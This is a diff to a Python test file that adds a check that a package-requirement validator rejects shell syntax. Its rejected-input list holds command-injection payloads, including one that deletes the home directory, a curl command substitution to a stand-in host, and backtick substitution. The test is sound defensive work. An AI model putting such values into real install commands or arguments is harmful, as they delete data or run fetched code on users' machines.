@@ -293,3 +293,16 @@ def test_runtime_and_compiler_share_the_vocabulary() -> None:
 
     for name in ("CATEGORIES", "FEATURES", "CRITERIA", "USE_CASES"):
         assert getattr(runtime, name) == getattr(compiler, name), name
+
+
+def test_install_requirements_cannot_carry_shell_syntax() -> None:
+    from pydantic import TypeAdapter, ValidationError
+
+    from knollm_compiler.libraries import Requirement
+
+    adapter = TypeAdapter(Requirement)
+    for good in ("openai", "outlines[openai]", "pydantic-ai<2", "langchain-openai>=0.3"):
+        assert adapter.validate_python(good) == good
+    for bad in ("x; rm -rf ~", "$(curl evil)", "a b", "pkg`id`"):
+        with pytest.raises(ValidationError):
+            adapter.validate_python(bad)
